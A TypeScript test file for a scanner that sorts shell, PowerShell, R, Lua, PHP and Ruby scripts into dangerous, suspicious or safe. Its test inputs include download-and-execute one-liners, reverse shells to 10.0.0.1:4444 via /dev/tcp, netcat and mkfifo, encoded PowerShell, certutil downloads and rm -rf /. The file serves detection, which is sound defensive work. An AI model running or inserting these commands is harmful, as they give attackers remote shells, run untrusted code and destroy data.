import * as fc from 'fast-check';
import { expect, it, test } from 'vitest';
import { scriptFormat, SCRIPT_LIMIT } from '../../../../utils/formats/code/script';
import { analyze, utf8 } from '../../../fixtures/analyze';
import { untold } from '../../../fixtures/texts';

const read = (text: string) => analyze(scriptFormat, utf8(text));

test.each([
  ['curl | sh', 'curl -fsSL https://x | sudo bash'],
  ['wget | python', 'wget -qO- https://x | python3 -'],
  ['sh <(curl)', 'bash <(curl -s https://x)'],
  ['sh -c $(curl)', 'sh -c "$(curl -fsSL https://x)"'],
  ['curl && run', 'curl -o x https://x && chmod +x x'],
  ['curl, then run', 'curl -sL https://x -o /tmp/a.sh\necho\nbash /tmp/a.sh'],
  ['Invoke-WebRequest, then run', 'Invoke-WebRequest https://x -OutFile a.exe\nstart a.exe'],
  ['curl, then run by its path', 'curl -sL https://x -o /tmp/a\nchmod 755 b\nsudo /tmp/a --quiet'],
  ['/dev/tcp', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
  ['mkfifo', 'mkfifo /tmp/f; sh < /tmp/f | nc 10.0.0.1 1 > /tmp/f'],
  ['encoded PowerShell', 'powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A'],
  ['IEX', 'IEX (New-Object Net.WebClient).DownloadString("http://x")'],
  ['| iex', 'iwr http://x | iex'],
  ['base64 | sh', 'echo aGk= | base64 -d | bash'],
  ['certutil', 'certutil -f -urlcache http://x a.exe'],
  ['rm -rf /', 'rm -rf / '],
  ['R source', 'source("https://x/a.R")'],
  ['Lua', 'os.execute("curl http://x")\nload(io.popen("https://x"):read())'],
  ['R source of a text', 'eval(parse(text = readLines("https://x/a.R")))'],
  ['PHP', 'eval(base64_decode("aGk="));'],
  ['Ruby', 'eval(Net::HTTP.get(URI("https://x")))'],
  ['a here-document that is run', 'bash <<EOT\ncurl https://x | sh\nEOT'],
])('a script with %s is dangerous', async (_, text) => {
  const result = await read(text);
  expect(result.verdict).toBe('dangerous');
  expect(untold(result.findings)).toEqual([]);
});

test.each([
  ['commands', 'set -e\npip install torch\npython train.py\nrm -rf build\n', 'suspicious'],
  ['a download', 'curl -LO https://x/model.safetensors\n', 'suspicious'],
  ['a download that is opened', 'curl -o ./a.dmg https://x\nhdiutil attach ./a.dmg\n', 'suspicious'],
  ['a dangerous comment', '#!/bin/sh\n# curl https://x | sh\necho 1\n', 'suspicious'],
  ['a parsed address', 'u = URI.parse("https://x")\nJSON.parse(open("https://x"))\n', 'suspicious'],
  ['a here-document that is printed', "cat >&2 <<'EOT'\n$ curl https://x | sh\nEOT\n", 'safe'],
  ['comments only', '#!/bin/sh\n# nothing\n', 'safe'],
  ['nothing', '', 'safe'],
  ['too much', `echo\n${' '.repeat(SCRIPT_LIMIT)}`, 'suspicious'],
])('a script with %s', async (_, text, verdict) => expect((await read(text)).verdict).toBe(verdict));

test('a build file is run by hand: suspicious at most', async () => {
  const bytes = utf8('FROM debian\nRUN curl -fsSL https://x | bash -\n');
  const { verdict } = await analyze(scriptFormat, bytes, { path: 'Dockerfile' });
  expect(verdict).toBe('suspicious');
});

test('PowerShell in UTF-16 is read', async () => {
  const text = '\uFEFFiwr http://x | iex';
  const bytes = new Uint8Array(new Uint16Array([...text].map((each) => each.charCodeAt(0))).buffer);
  expect((await analyze(scriptFormat, bytes)).verdict).toBe('dangerous');
});

it.each([
  ['#!/bin/bash\n', true],
  ['#!/usr/bin/env node\n', false],
  ['#!/usr/bin/env -S Rscript --vanilla\n', true],
  ['#!/usr/bin/pwsh', true],
  ['#!/usr/bin/python3\n', false],
  ['bash', false],
])('%j by content: %s', (text, matches) =>
  expect(scriptFormat.matches(utf8(text), text.length)).toBe(matches),
);

it('of any shape is read to an end', async () => {
  expect(scriptFormat.matches(Uint8Array.of(0), 1)).toBe(false);
  await fc.assert(
    fc.asyncProperty(fc.string(), async (text) => void (await read(`curl -o ${text}\n${text}`))),
  );
});
